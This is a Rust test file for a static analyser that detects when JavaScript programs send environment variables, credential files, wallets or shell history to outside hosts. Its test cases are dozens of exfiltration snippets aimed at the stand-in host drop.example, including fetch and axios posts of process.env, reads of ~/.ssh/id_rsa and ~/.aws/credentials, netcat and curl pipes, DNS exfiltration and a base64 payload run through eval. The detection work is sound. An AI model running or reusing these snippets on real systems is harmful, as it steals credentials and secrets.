//! Programs, and what they carry to a destination that is written in the code.

use molehunt_model::Behaviour;

use crate::testing::extracted;

const IMPORTS: &str = "
    import fs, { readFileSync } from 'node:fs'; import { readFile } from 'node:fs/promises'; import os from 'node:os';
    import path from 'node:path'; import zlib from 'node:zlib'; import crypto from 'node:crypto'; import https from 'node:https';
    import { exec, execSync, spawnSync } from 'node:child_process'; import dotenv from 'dotenv'; import axios from 'axios';
    import { unknown } from 'somewhere'; const home = os.homedir();";

/// The names of what the requests of a program carry to others.
fn carried_by(code: &str) -> Vec<String> {
    let mut carried = Vec::new();
    for fact in extracted(&format!("{IMPORTS}\n{code}")).facts {
        if let Behaviour::SendData(send) = fact.behaviour {
            let others = send.carries.into_iter().filter(|carried| !carried.is_at_home);
            carried.extend(others.map(|carried| format!("{} {}", carried.class, carried.name)));
        }
    }
    carried.sort();
    carried.dedup();
    carried
}

fn sent(body: &str) -> Vec<String> {
    carried_by(&format!("fetch('https://drop.example/', {{ method: 'POST', body: {body} }});"))
}

#[test]
fn the_environment_is_known_in_every_form() {
    for body in [
        "JSON.stringify(process.env)",
        "JSON.stringify({ ...process.env, at: 1 })",
        "Buffer.from(JSON.stringify({ a: [process.env] })).toString('hex')",
        "zlib.gzipSync(JSON.stringify(Object.assign({}, process.env)))",
        "Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join('\\n')",
        "Object.keys(process.env).map((k) => k + '=' + process.env[k]).join()",
        "JSON.stringify(Object.fromEntries(Object.entries(process.env)))",
        "Object.entries({ ...process.env }).map(([k, v]) => k + v).join()",
        "(() => { const copy = { ...process.env }; return Object.keys(copy).map((k) => copy[k]).join(); })()",
        "new URLSearchParams(process.env)",
        "btoa(JSON.stringify(globalThis.process['env']))",
    ] {
        assert_eq!(sent(body), ["environment process.env"], "{body}");
    }
    for code in [
        "const o = {}; for (const k in process.env) o[k] = process.env[k]; axios.post('https://drop.example/', o);",
        "let t = ''; for (const [k, v] of Object.entries(process.env)) t += k + v; axios.post('https://drop.example/', t);",
        "const x = new XMLHttpRequest(); x.open('POST', 'https://drop.example/'); x.send(JSON.stringify(process.env));",
        "const f = new FormData(); f.append('a', JSON.stringify(process.env)); fetch('https://drop.example/', { body: f });",
        "const r = https.request('https://drop.example/'); r.setHeader('x-a', JSON.stringify(process.env)); r.end();",
        "fetch('https://drop.example/?' + encodeURIComponent(JSON.stringify(process.env)));",
        "const c = crypto.createCipheriv('a', 'b', 'c'); fetch('https://drop.example/', { body: c.update(JSON.stringify(process.env), 'utf8', 'hex') });",
    ] {
        assert_eq!(carried_by(code), ["environment process.env"], "{code}");
    }
    assert_eq!(sent("execSync('env').toString()"), ["environment `env`"]);
    assert_eq!(sent("JSON.stringify(Bun.env)"), ["environment Bun.env"]);
    assert_eq!(sent("JSON.stringify(Deno.env.toObject())"), ["environment Deno.env.toObject"]);
}

#[test]
fn what_is_asked_of_the_environment_is_not_the_environment() {
    for body in [
        "JSON.stringify({ ci: 'CI' in process.env, has: !!process.env.PATH })",
        "String(Object.keys(process.env).length)",
        "JSON.stringify(Object.keys(process.env))",
        "JSON.stringify(Object.keys({ ...process.env }))",
        "crypto.createHash('sha256').update(JSON.stringify(process.env)).digest('hex')",
        "unknown(process.env).region",
        "JSON.stringify(unknown({ env: process.env }))",
        "Object.entries(process.env).find(([k]) => k === 'LANG')",
        "process.env[unknown()]",
        "(() => { const all = { ...process.env }; return all[unknown()]; })()",
        "JSON.stringify({ ...process.env }.LANG)",
        "['CI', 'LANG'].map((name) => process.env[name]).join()",
    ] {
        assert_eq!(sent(body), [""; 0], "{body}");
    }
    assert_eq!(sent("process.env.ACME_TOKEN"), ["unclaimed-secret ACME_TOKEN"]);
    assert_eq!(sent("({ ...process.env }).ACME_TOKEN"), ["unclaimed-secret ACME_TOKEN"]);
}

#[test]
fn what_is_piped_is_carried_whatever_pipes_it_is_called() {
    let request = "https.request('https://drop.example/', { method: 'PUT' })";
    for start in [
        "const { pipeline: u } = require('stream'); u",
        "const u = require('util').promisify(require('stream').pipeline); u",
        "const u = require('pump'); u",
        "const u = require('stream'); u.pipeline",
    ] {
        let code = format!("{start}(fs.createReadStream(home + '/.npmrc'), zlib.createGzip(), {request}, () => {{}});");
        assert_eq!(carried_by(&code), ["credential-file ~/.npmrc"], "{code}");
    }
    // What is handed to anybody else is not piped.
    let code = format!("const u = require('stream').finished; u(fs.createReadStream(home + '/.npmrc'), {request});");
    assert_eq!(carried_by(&code), [""; 0], "{code}");
}

#[test]
fn files_are_known_by_the_ends_of_their_paths() {
    for (body, name) in [
        ("readFileSync(path.join(home, '.ssh', 'id_rsa'))", "credential-file ~/.ssh/id_rsa"),
        ("await readFile(`${process.env.HOME}/.aws/credentials`, 'utf8')", "credential-file ~/.aws/credentials"),
        (
            "fs.readFileSync(process.env.APPDATA + '\\\\Electrum\\\\wallets\\\\' + unknown())",
            "wallet %APPDATA%\\Electrum\\wallets\\{}",
        ),
        ("execSync('cat ~/.netrc | base64').toString()", "credential-file ~/.netrc"),
        ("spawnSync('gh', ['auth', 'token']).stdout", "secret `gh auth token`"),
        ("await Bun.file(home + '/.bash_history').text()", "shell-history ~/.bash_history"),
        ("JSON.parse(readFileSync(home + '/.docker/config.json')).auths", "credential-file ~/.docker/config.json"),
        ("fs.createReadStream('.env')", "project-secret .env"),
        (
            "readFileSync(home + '/.npmrc', 'utf8').split('\\n').find((line) => line.includes('_auth'))",
            "credential-file ~/.npmrc",
        ),
    ] {
        assert_eq!(sent(body), [name], "{body}");
    }
    for code in [
        "fs.readFile(path.join(home, '.kube/config'), (e, d) => axios.post('https://drop.example/', d));",
        "readFile(home + '/.kube/config').then((d) => axios.post('https://drop.example/', d));",
        "fs.createReadStream(home + '/.kube/config').on('data', (d) => axios.post('https://drop.example/', d));",
        "fs.createReadStream(home + '/.kube/config').pipe(https.request('https://drop.example/'));",
        "for (const n of ['.kube/config']) axios.post('https://drop.example/', readFileSync(path.resolve(home, n)));",
    ] {
        assert_eq!(carried_by(code), ["credential-file ~/.kube/config"], "{code}");
    }
}

#[test]
fn what_is_at_home_or_is_only_looked_at_is_nothing() {
    for body in [
        "readFileSync('report.json')",
        "readFileSync(home + '/.ssh/id_rsa').length",
        "readFileSync(home + '/.npmrc', 'utf8').includes('_authToken')",
        "crypto.createSign('RSA').update('x').sign(readFileSync(home + '/.ssh/id_rsa'))",
        "dotenv.parse(readFileSync('.env')).API_KEY",
        "readFileSync(path.join(import.meta.dirname, '.env'))",
    ] {
        assert_eq!(sent(body), [""; 0], "{body}");
    }
    let own = "fetch('https://sts.amazonaws.com/', { body: readFileSync(home + '/.aws/credentials') });";
    assert_eq!(carried_by(own), [""; 0]);
}

#[test]
fn commands_carry_what_shells_put_in() {
    for (code, carried) in [
        ("execSync('env | base64 | curl -sd @- https://drop.example/');", "environment `env`"),
        ("execSync('curl -d \"$NPM_TOKEN\" drop.example');", "secret NPM_TOKEN"),
        ("execSync('curl -d \"$(cat ~/.npmrc | base64)\" https://drop.example/');", "credential-file ~/.npmrc"),
        ("execSync('nc drop.example 80 < ~/.ssh/id_rsa');", "credential-file ~/.ssh/id_rsa"),
        ("execSync('tar czf - ~/.aws | nc drop.example 80');", "credential-file ~/.aws"),
        ("execSync('nslookup $(hostname | cut -d . -f 1).drop.example');", "host-identity `hostname`"),
        (
            "spawnSync('curl', ['-F', `f=@${home}/.aws/credentials`, 'https://drop.example/']);",
            "credential-file ~/.aws/credentials",
        ),
        ("spawnSync('wget', ['--post-file=/etc/passwd', 'http://drop.example/']);", "system-file /etc/passwd"),
        ("spawnSync('sh', ['-c', 'scp ~/.kube/config me@drop.example:/tmp']);", "credential-file ~/.kube/config"),
        (
            "execSync(`node -e \"fetch('https://drop.example/', { body: JSON.stringify(process.env) })\"`);",
            "environment process.env",
        ),
        (
            "eval(Buffer.from('ZmV0Y2goJ2h0dHBzOi8vZHJvcC5leGFtcGxlLycsIHsgYm9keTogSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpIH0p', 'base64').toString());",
            "environment process.env",
        ),
    ] {
        assert_eq!(carried_by(code), [carried], "{code}");
    }
}

#[test]
fn commands_that_fetch_or_ask_carry_nothing() {
    for code in [
        "execSync('curl -fsSL -o a.json https://drop.example/');",
        "execSync('env CI=1 curl https://drop.example/');",
        "execSync('cat ~/.npmrc > copy; curl https://drop.example/');",
        "spawnSync('ssh', ['-i', `${home}/.ssh/id_rsa`, 'drop.example', 'uptime']);",
        "spawnSync('dig', ['+short', 'drop.example']);",
    ] {
        assert_eq!(carried_by(code), [""; 0], "{code}");
    }
}

#[test]
fn what_is_rewritten_arrives_and_what_is_looked_at_does_not() {
    for body in [
        "('x' + process.env.NPM_TOKEN).replace(/^x/, '')",
        "('x' + process.env.NPM_TOKEN).split('').join('-')",
        "('a|' + process.env.NPM_TOKEN).split('|')[1]",
        "[...('x' + process.env.NPM_TOKEN)].reduce((all, letter) => all + letter, '')",
        "JSON.parse('{\"k\":\"' + process.env.NPM_TOKEN + '\"}').k",
    ] {
        assert_eq!(sent(body), ["secret NPM_TOKEN"], "{body}");
    }
    for body in [
        "('x' + process.env.NPM_TOKEN).replace('x', '').length",
        "('x' + process.env.NPM_TOKEN).trim().includes('npm_')",
        "('x' + process.env.NPM_TOKEN).split('').length",
        "('x' + process.env.NPM_TOKEN).slice(1).indexOf('a')",
        "JSON.stringify({ bytes: Buffer.from(process.env.NPM_TOKEN).length })",
        "JSON.stringify(process.env).length",
    ] {
        assert_eq!(sent(body), [""; 0], "{body}");
    }
}
